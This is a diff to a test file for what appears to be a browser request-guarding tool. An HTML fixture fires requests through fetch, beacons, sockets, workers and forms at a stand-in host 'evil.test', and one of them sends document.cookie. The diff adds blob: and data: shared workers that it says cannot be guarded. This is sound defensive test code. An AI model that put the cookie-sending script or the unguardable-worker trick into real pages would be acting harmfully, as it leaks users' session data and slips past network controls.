@@ -33,15 +33,18 @@ TRICKS = """
 <iframe src="data:text/html,<meta http-equiv=refresh content='0;url=BASE/refresh'>"></iframe>
 <iframe name=in-KEY></iframe>
 <form id=form-KEY action="BASE/form" method=post target=in-KEY><input name=a value=b></form>
-<script>
+<script>{
   fetch("BASE/fetch?" + document.cookie, {mode: "no-cors"}).catch(() => 0);
   navigator.sendBeacon("BASE/beacon", "x");
   new EventSource("BASE/events");
   new WebSocket("BASE/socket".replace("http", "ws"));
   new Worker("/KEY-worker");
   new SharedWorker("/KEY-shared-worker");
+  const script = kind => `fetch("BASE/${kind}", {mode: "no-cors"})`;
+  new SharedWorker(URL.createObjectURL(new Blob([script("blob-worker")])));
+  new SharedWorker("data:text/javascript," + encodeURIComponent(script("data-worker")));
   document.getElementById("form-KEY").submit();
-</script>
+}</script>
 """
 
 WAYS = {
@@ -49,6 +52,9 @@ WAYS = {
     *("events", "socket", "worker", "shared-worker"),
 }
 """What a page of `TRICKS` asks for where nobody stops it."""
+
+REFUSED = {"blob-worker", "data-worker"}
+"""What it asks for only where there are no lists: such shared workers cannot be guarded."""
 
 OUT, IN = "evil.test", "ok.test"
 
@@ -172,7 +178,7 @@ async def test_without_lists_all_of_it_is_sent(names, open_house):
         await tabwright.enter("http://ok.test/tricks", session="s")
         await names.until_all_is_tried()
         with trio.fail_after(120):
-            while not names.asked(OUT) >= WAYS:
+            while not names.asked(OUT) >= WAYS | REFUSED:
                 await trio.sleep(0.05)
 
 
